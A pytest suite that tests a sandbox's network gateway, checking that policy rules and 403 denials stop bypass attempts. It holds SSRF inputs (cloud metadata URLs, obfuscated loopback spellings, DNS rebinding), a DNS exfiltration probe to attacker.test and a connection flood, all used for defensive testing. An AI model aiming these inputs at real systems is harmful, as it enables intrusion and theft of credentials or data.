"""The capability gateway, end to end through `safehouse run`: a sandbox whose policy
allows egress reaches the local "internet" (tests/network/internet.py) only through the
gateway, only where its policy says, and every denial is a 403 that names the rule and the
fix. NET-* rows of shared/SECURITY.md; each bypass attempt also runs outside (it must
work there) so a pass proves the sandbox stopped it.
"""
import errno
import json
import os
import shutil
import socket
import subprocess
import threading
import time

import pytest

from conftest import IS_ROOT, PYTHON, require_mode, require_root, run_inside, run_outside, world_tmpdir
from network.internet import Dns, Lan, Web, make_cert, tls_context

HERE = os.path.dirname(os.path.abspath(__file__))
SPECIAL_V4 = ("10.", "127.", "169.254.", "192.168.", "0.") + tuple(f"172.{i}." for i in range(16, 32)) \
    + tuple(f"100.{i}." for i in range(64, 128))


def host_address():
    """This host's own non-loopback IPv4 address, if it has one."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.connect(("198.51.100.1", 9))
        addr = s.getsockname()[0]
    except OSError:
        return None
    finally:
        s.close()
    return None if addr.startswith("127.") else addr


class Net:
    pass


@pytest.fixture(scope="module")
def net():
    n = Net()
    n.dir = world_tmpdir("safehouse-net-")
    shutil.copy(os.path.join(HERE, "netprobe.py"), n.dir)
    n.cert, key = make_cert(n.dir, "tls.test")
    n.web = Web("web")
    n.other = Web("other")
    n.tls = Web("tls", tls=tls_context(n.cert, key))
    n.pub = Web("pub", bind="0.0.0.0")
    n.host_ip = host_address()
    # A second machine (root only): `far` is a public-looking server that is not the host;
    # `host4`/`host6` serve on public-looking addresses of the host itself (NET-01).
    n.lan = Lan() if IS_ROOT else None
    servers = [n.web, n.other, n.tls, n.pub]
    if n.lan:
        n.far = Web("far", bind=n.lan.far4, netns=n.lan.ns)
        n.host4 = Web("host4", bind=n.lan.host4)
        n.host6 = Web("host6", bind=n.lan.host6)
        servers += [n.far, n.host4, n.host6]
    lan = n.lan
    n.dns = Dns({
        "private.test": ["10.0.0.1"],
        "meta.test": ["169.254.169.254"],
        "loop.test": ["127.0.0.1"],
        "mapped.test": ["127.0.0.1", "10.1.1.1"],
        # DNS rebinding: a public answer (another machine), then loopback, then public...
        "flip.test": (lambda c: [lan.far4 if lan else "198.51.100.1"] if c % 2 == 0 else ["127.0.0.1"]),
        # Names that resolve to the host's own public-looking addresses.
        "hostaddr.test": [lan.host4] if lan else [],
        "hostaddr6.test": [lan.host6] if lan else [],
    })
    names = ["web.test", "a.web.test", "b.a.web.test", "other.test", "tls.test"]
    n.env = {
        "SAFEHOUSE_GATEWAY_RESOLVE": ";".join(f"{h}=127.0.0.1" for h in names),
        "SAFEHOUSE_GATEWAY_DNS": f"127.0.0.1:{n.dns.port}",
    }
    yield n
    for s in servers:
        s.close()
    n.dns.close()
    if n.lan:
        n.lan.close()
    shutil.rmtree(n.dir, ignore_errors=True)


def policy(net, allow, extra=""):
    path = os.path.join(net.dir, f"p{time.monotonic_ns()}.toml")
    with open(path, "w") as f:
        f.write("version = 1\n" + extra + "\n[network]\nallow = " + json.dumps(allow) + "\n")
    os.chmod(path, 0o644)
    return path


def probe(net, allow, *commands, mode="root", extra="", opts=(), json_record=False, timeout=90):
    """Runs netprobe commands (lists of args) in one sandbox; returns (results, Result)."""
    argv = [PYTHON, "/probe/netprobe.py"]
    for i, c in enumerate(commands):
        if i:
            argv.append("::")
        argv += [str(x) for x in c]
    opts = ["--policy", policy(net, allow, extra), "--mount", f"{net.dir}:/probe", *opts]
    r = run_inside(argv, opts, mode=mode, env=net.env, json_record=json_record, timeout=timeout)
    results = r.json_lines()
    assert len(results) == len(commands), f"rc={r.rc} stdout={r.stdout!r} stderr={r.stderr!r}"
    return results, r


def outside(*args):
    r = run_outside([PYTHON, os.path.join(HERE, "netprobe.py"), *[str(a) for a in args]])
    return r.json_lines()[0]


def assert_denied(res, entry=None, rule=None):
    assert res["status"] == 403, res
    body = res["body"]
    assert "network.allow" in body, body
    if entry:
        assert f'"{entry}"' in body, body
    if rule:
        assert rule in body and rule in (res.get("denied") or ""), res


@pytest.fixture(autouse=True)
def _root():
    require_mode("root")


# ------------------------------------------------------------------ the policy matrix

def test_allowed_name_reaches_its_server_and_nothing_else(net):
    w = net.web.port
    before = len(net.web.requests)
    (ok, other, port), _ = probe(
        net, [f"web.test:{w}"],
        ["get", f"http://web.test:{w}/hello"],
        ["get", f"http://other.test:{net.other.port}/hello"],
        ["get", f"http://web.test:{net.other.port}/hello"])
    assert ok["status"] == 200 and ok["body"] == "hello from web", ok
    # The server got an origin-form request with the right Host.
    assert ("GET", "/hello", f"web.test:{w}") in net.web.requests[before:]
    assert_denied(other, entry=f"other.test:{net.other.port}", rule="default deny")
    assert "not on port" in port["body"], port


def test_wildcards_match_below_the_suffix_only(net):
    w = net.web.port
    (sub, deep, apex), _ = probe(
        net, [f"*.web.test:{w}"],
        ["get", f"http://a.web.test:{w}/hello"],
        ["get", f"http://b.a.web.test:{w}/hello"],
        ["get", f"http://web.test:{w}/hello"])
    assert sub["status"] == 200 and deep["status"] == 200, (sub, deep)
    assert_denied(apex, entry=f"web.test:{w}")


def test_port_ranges_and_any_port(net):
    w = net.web.port
    (a, b), _ = probe(net, [f"web.test:{w - 1}-{w + 1}"],
                      ["get", f"http://web.test:{w}/hello"], ["get", f"http://web.test:{w + 2}/hello"])
    assert a["status"] == 200, a
    assert b["status"] == 403, b
    (c,), _ = probe(net, ["web.test:*"], ["get", f"http://web.test:{w}/hello"])
    assert c["status"] == 200, c


def test_address_rules_are_the_only_way_to_loopback(net):
    """Loopback is the host: only the exact address opens it (a block no longer does)."""
    w = net.web.port
    (by_ip, other_port), _ = probe(net, [f"127.0.0.1:{w}"],
                                   ["get", f"http://127.0.0.1:{w}/hello"],
                                   ["get", f"http://127.0.0.1:{net.other.port}/hello"])
    assert by_ip["status"] == 200, by_ip
    assert other_port["status"] == 403, other_port
    (block,), _ = probe(net, [f"127.0.0.0/8:{w}"], ["get", f"http://127.0.0.1:{w}/hello"])
    assert block["status"] == 403 and block["denied"] == "this host (127.0.0.0/8)", block
    # Without the address rule, even "*" never reaches loopback, in any spelling.
    spellings = ["127.0.0.1", "127.1", "0x7f.1", "2130706433", "017700000001", "[::ffff:127.0.0.1]",
                 "[::1]", "0.0.0.0"]
    results, _ = probe(net, ["*:*"], *[["get", f"http://{s}:{w}/hello"] for s in spellings])
    for s, res in zip(spellings, results):
        assert res["status"] == 403, (s, res)
        assert "loopback" in res["body"] or "this-network" in res["body"] or "unspecified" in res["body"], (s, res)


def test_https_through_connect_is_end_to_end_tls(net):
    t = net.tls.port
    (ok,), _ = probe(net, [f"tls.test:{t}"], ["get", f"https://tls.test:{t}/hello", "--cafile", "/probe/cert.pem"])
    assert ok["status"] == 200 and ok["body"] == "hello from tls", ok


def test_connect_is_checked_like_everything_else(net):
    """NET-09: CONNECT to an allowed host on a port not granted, and to the gateway itself."""
    w = net.web.port
    (good, bad_port, itself, itself_ip), _ = probe(
        net, [f"web.test:{w}"],
        ["tunnel", "web.test", w], ["tunnel", "web.test", 22], ["tunnel", "localhost", 3128],
        ["tunnel", "127.0.0.1", 3128])
    assert good["status"] == 200 and "hello from web" in good["response"], good
    for res in (bad_port, itself, itself_ip):
        assert res["status"] == 403, res


def test_socks5_speaks_the_same_policy(net):
    w = net.web.port
    (name, ip, denied, loop), _ = probe(
        net, [f"web.test:{w}", f"127.0.0.1:{w}"],
        ["socks", "web.test", w], ["socks", "127.0.0.1", w, "--atyp", "ip4"],
        ["socks", "other.test", net.other.port], ["socks", "::1", w, "--atyp", "ip6"])
    assert name["reply"] == 0 and "hello from web" in name["response"], name
    assert ip["reply"] == 0 and "hello from web" in ip["response"], ip
    assert denied["reply"] == 2, denied  # connection not allowed by ruleset
    assert loop["reply"] == 2, loop


# ------------------------------------------------------------------ NET catalogue

def test_net04_cloud_metadata_is_denied(net):
    results, _ = probe(net, ["*"],
                       ["get", "http://169.254.169.254/latest/meta-data/"],
                       ["get", "http://[fd00:ec2::254]/latest/meta-data/"],
                       ["get", "http://metadata.google.internal/computeMetadata/v1/"],
                       ["get", "http://meta.test/"])
    for res in results[:2]:
        assert_denied(res, rule="cloud metadata")
    # A name the policy allows ("*") but that resolves to the metadata address.
    assert results[3]["status"] == 403 and "cloud metadata" in results[3]["body"], results[3]
    # metadata.google.internal: allowed by "*", resolved upstream; our DNS server does not
    # know it (NXDOMAIN) → 502, never a connection.
    assert results[2]["status"] in (403, 502), results[2]


def test_net06_names_resolving_to_private_addresses_are_denied(net):
    results, _ = probe(net, ["private.test:*", "meta.test:*", "loop.test:*", "mapped.test:*"],
                       ["get", "http://private.test/"], ["get", "http://meta.test/"],
                       ["get", f"http://loop.test:{net.web.port}/hello"],
                       ["get", f"http://mapped.test:{net.web.port}/hello"])
    for res, what in zip(results, ["private", "cloud metadata", "loopback", "loopback"]):
        assert res["status"] == 403 and what in res["body"], (what, res)


def test_net06_dns_rebinding_never_reaches_loopback(net):
    """flip.test answers a public address (another machine), then 127.0.0.1, alternately.
    The gateway resolves once per request and dials what it checked."""
    require_root("the other machine is a network namespace the test makes")
    p = net.far.port
    # Outside control: the other machine answers from the host.
    assert outside("get", f"http://{net.lan.far4}:{p}/hello", "--direct")["status"] == 200
    before = list(net.far.requests)
    results, _ = probe(net, [f"flip.test:{p}"], *[["get", f"http://flip.test:{p}/hello"]] * 6)
    statuses = [r["status"] for r in results]
    assert statuses == [200, 403] * 3, results
    for r in results[1::2]:
        assert "loopback" in r["body"], r
    assert [r["body"] for r in results[::2]] == ["hello from far"] * 3, results
    new = net.far.requests[len(before):]
    assert len(new) == 3, new
    # The loopback-only server never saw flip.test.
    assert not [q for q in net.web.requests if q[2] and q[2].startswith("flip.test")]


# ------------------------------------------------------------------ NET-01: the host itself

def host_rule(addr):
    return f"this host ({addr}/{128 if ':' in addr else 32})"


def test_net01_the_hosts_own_addresses_are_denied_through_every_front(net):
    """The host's public-looking addresses (on its end of the test LAN), whatever the
    policy allows: HTTP proxy, CONNECT and SOCKS5, IPv4 and IPv6, other spellings, and
    names resolving there. Outside, the same servers answer."""
    require_root("the host's extra addresses are made by the test")
    h4, h6, p4, p6 = net.lan.host4, net.lan.host6, net.host4.port, net.host6.port
    assert outside("get", f"http://{h4}:{p4}/hello", "--direct")["body"] == "hello from host4"
    assert outside("get", f"http://[{h6}]:{p6}/hello", "--direct")["body"] == "hello from host6"
    before = (net.host4.connections, net.host6.connections)
    cmds = [
        ["get", f"http://{h4}:{p4}/hello"],
        ["get", f"http://[{h6}]:{p6}/hello"],
        ["get", f"http://[::ffff:{h4}]:{p4}/hello"],
        ["get", f"http://[64:ff9b::{h4}]:{p4}/hello"],
        ["get", f"http://hostaddr.test:{p4}/hello"],
        ["get", f"http://hostaddr6.test:{p6}/hello"],
        ["tunnel", h4, p4],
        ["tunnel", f"[{h6}]", p6],
        ["socks", h4, p4, "--atyp", "ip4"],
        ["socks", h6, p6, "--atyp", "ip6"],
        ["socks", "hostaddr.test", p4],
    ]
    results, _ = probe(net, ["*:*"], *cmds)
    g4, g6, mapped, nat64, name4, name6, t4, t6, s4, s6, sname = results
    for res, addr in [(g4, h4), (g6, h6), (mapped, h4), (nat64, h4), (name4, h4), (name6, h6)]:
        assert res["status"] == 403 and res["denied"] == host_rule(addr), res
        assert "an address of this host" in res["body"], res
    assert "hostaddr.test resolves to" in name4["body"], name4
    for res in (t4, t6):
        assert res["status"] == 403 and "this host" in res["head"], res
    for res in (s4, s6, sname):
        assert res["reply"] == 2, res  # connection not allowed by ruleset
    assert (net.host4.connections, net.host6.connections) == before


def test_net01_the_machines_own_address_is_denied_too(net):
    """The address this machine's default route leaves from (its real NIC), if it has one
    that no special range covers: same as the test LAN's."""
    ip = net.host_ip
    if not ip or ip.startswith(SPECIAL_V4):
        pytest.skip(f"this machine's own address ({ip}) is in a special range, covered by those tests")
    p = net.pub.port
    assert outside("get", f"http://{ip}:{p}/hello", "--direct")["status"] == 200
    (res,), _ = probe(net, ["*:*"], ["get", f"http://{ip}:{p}/hello"])
    assert res["status"] == 403 and res["denied"] == host_rule(ip), res


def test_net01_the_web_research_preset_never_reaches_the_host(net):
    """`web-research` allows "*" on 80 and 443: a server of the host on port 80."""
    require_root("the host's extra addresses are made by the test")
    try:
        web80 = Web("host80", bind=net.lan.host4, port=80)
    except OSError as e:
        pytest.skip(f"port 80 on the test address is taken: {e}")
    try:
        assert outside("get", f"http://{net.lan.host4}/hello", "--direct")["body"] == "hello from host80"
        argv = [PYTHON, "/probe/netprobe.py", "get", f"http://{net.lan.host4}/hello"]
        r = run_inside(argv, ["--preset", "web-research", "--mount", f"{net.dir}:/probe"], env=net.env)
        (res,) = r.json_lines()
        assert res["status"] == 403 and res["denied"] == host_rule(net.lan.host4), res
        assert web80.connections == 1  # the outside control only
    finally:
        web80.close()


def test_net01_only_an_exact_rule_of_the_operator_reaches_a_host_address(net):
    """`safehouse run`'s user is the host's operator: the exact address (and port) opens
    it; a block covering it, `*` or a name resolving there still do not."""
    require_root("the host's extra addresses are made by the test")
    h4, p4 = net.lan.host4, net.host4.port
    (exact, other_port), _ = probe(net, [f"{h4}:{p4}"], ["get", f"http://{h4}:{p4}/hello"],
                                   ["get", f"http://{h4}:{p4 + 1}/hello"])
    assert exact["status"] == 200 and exact["body"] == "hello from host4", exact
    assert other_port["status"] == 403, other_port
    (block, name), _ = probe(net, ["203.0.113.0/24:*", "hostaddr.test:*"], ["get", f"http://{h4}:{p4}/hello"],
                             ["get", f"http://hostaddr.test:{p4}/hello"])
    for res in (block, name):
        assert res["status"] == 403 and res["denied"] == host_rule(h4), res


def test_net11_names_the_policy_does_not_allow_are_never_resolved(net):
    secret = "c2VjcmV0LWRhdGE.attacker.test"
    (res, own), _ = probe(net, ["web.test:*"], ["get", f"http://{secret}/"], ["resolve", secret])
    assert res["status"] == 403, res
    assert not own["ok"], own  # the sandbox has no resolver of its own
    assert not [q for q in net.dns.questions if "attacker" in q[0]], net.dns.questions


def test_net10_net01_no_way_around_the_gateway(net):
    """Direct TCP/UDP/ICMP from inside: no route. Outside the same attempts work."""
    w = net.web.port
    cmds = [["connect", "127.0.0.1", w], ["udp", "198.51.100.1", 53], ["ping"]]
    if net.lan:
        cmds.append(["connect", net.lan.host4, net.host4.port])
    if net.host_ip:
        cmds.append(["connect", net.host_ip, net.pub.port])
    inside, _ = probe(net, [f"web.test:{w}"], *cmds)
    assert outside("connect", "127.0.0.1", w)["ok"]
    # Loopback inside is the sandbox's own: nothing listens there on the host's port.
    assert inside[0]["errno"] == errno.ECONNREFUSED, inside[0]
    assert inside[1]["errno"] == errno.ENETUNREACH, inside[1]
    assert inside[2]["errno"] == errno.EPROTONOSUPPORT, inside[2]  # ping sockets are refused (KS-02)
    rest = inside[3:]
    if net.lan:
        assert outside("connect", net.lan.host4, net.host4.port)["ok"]
        assert rest.pop(0)["errno"] == errno.ENETUNREACH, inside
    if net.host_ip:
        assert outside("connect", net.host_ip, net.pub.port)["ok"]
        assert rest.pop(0)["errno"] == errno.ENETUNREACH, inside


def test_no_network_allow_means_no_gateway_at_all(net):
    argv = [PYTHON, "/probe/netprobe.py", "connect", "127.0.0.1", "3128"]
    r = run_inside(argv + ["::", "get", f"http://web.test:{net.web.port}/hello"],
                   ["--mount", f"{net.dir}:/probe"], env=net.env)
    conn, get = r.json_lines()
    assert conn["errno"] == errno.ECONNREFUSED, conn
    assert get["status"] is None and get["errno"] == errno.ECONNREFUSED, get
    env = run_inside(["/usr/bin/env"], ["--mount", f"{net.dir}:/probe"], env=net.env)
    assert "PROXY" not in env.stdout.upper(), env.stdout


def test_proxy_variables_are_set_inside(net):
    r = run_inside(["/usr/bin/env"], ["--policy", policy(net, ["web.test"])], env=net.env)
    env = dict(ln.split("=", 1) for ln in r.stdout.splitlines() if "=" in ln)
    assert env["HTTP_PROXY"] == env["https_proxy"] == "http://127.0.0.1:3128", env
    assert env["ALL_PROXY"] == "socks5h://127.0.0.1:3128", env
    assert "127.0.0.1" in env["NO_PROXY"], env


def test_net14_connection_flood_is_capped_and_others_unaffected(net):
    """10k connection attempts: the gateway caps concurrent connections; another sandbox's
    gateway keeps serving meanwhile."""
    w = net.web.port
    stop = threading.Event()
    other_results = []

    def other_sandbox():
        while not stop.is_set():
            (res,), _ = probe(net, [f"web.test:{w}"], ["get", f"http://web.test:{w}/hello"])
            other_results.append(res["status"])

    t = threading.Thread(target=other_sandbox)
    t.start()
    try:
        (flood,), _ = probe(net, [f"web.test:{w}"], ["flood", 10000],
                            extra="[limits]\nnofile = 12000\npids = 64\n", timeout=180)
    finally:
        stop.set()
        t.join()
    assert flood["opened"] + flood["refused"] == 10000, flood
    assert flood["still_open"] <= 256, flood
    assert flood["busy"] + flood["closed"] + flood["refused"] >= 10000 - 256, flood
    assert other_results and all(s == 200 for s in other_results), other_results


def test_egress_budget_cuts_the_network(net):
    w = net.web.port
    (big, after), r = probe(net, [f"web.test:{w}"],
                            ["download", f"http://web.test:{w}/bytes/{8 << 20}"],
                            ["get", f"http://web.test:{w}/hello"],
                            extra="", json_record=True, opts=[])
    # without a budget: the whole download arrives
    assert big["received"] == 8 << 20, big
    path = policy(net, [f"web.test:{w}"])
    with open(path, "a") as f:
        f.write('egress_bytes = "1MiB"\n')
    argv = [PYTHON, "/probe/netprobe.py", "download", f"http://web.test:{w}/bytes/{8 << 20}",
            "::", "get", f"http://web.test:{w}/hello"]
    r = run_inside(argv, ["--policy", path, "--mount", f"{net.dir}:/probe"], env=net.env, json_record=True)
    cut, later = r.json_lines()
    assert cut["received"] < 2 << 20, cut
    assert later["status"] == 403 and "budget" in later["body"], later
    stats = r.record["network"]
    assert stats["budget_exceeded"], stats


def test_result_record_counts_requests_and_denials(net):
    w = net.web.port
    (_, _), r = probe(net, [f"web.test:{w}"], ["get", f"http://web.test:{w}/hello"],
                      ["get", "http://other.test/"], json_record=True)
    stats = r.record["network"]
    assert stats["allowed"] >= 1 and stats["denied"] >= 1, stats
    assert any("other.test" in d["target"] for d in stats["recent_denials"]), stats


def test_rootless_sandboxes_get_the_same_gateway(net):
    require_mode("rootless")
    w = net.web.port
    (ok, denied), _ = probe(net, [f"web.test:{w}"], ["get", f"http://web.test:{w}/hello"],
                            ["get", f"http://other.test:{net.other.port}/hello"], mode="rootless")
    assert ok["status"] == 200, ok
    assert denied["status"] == 403, denied
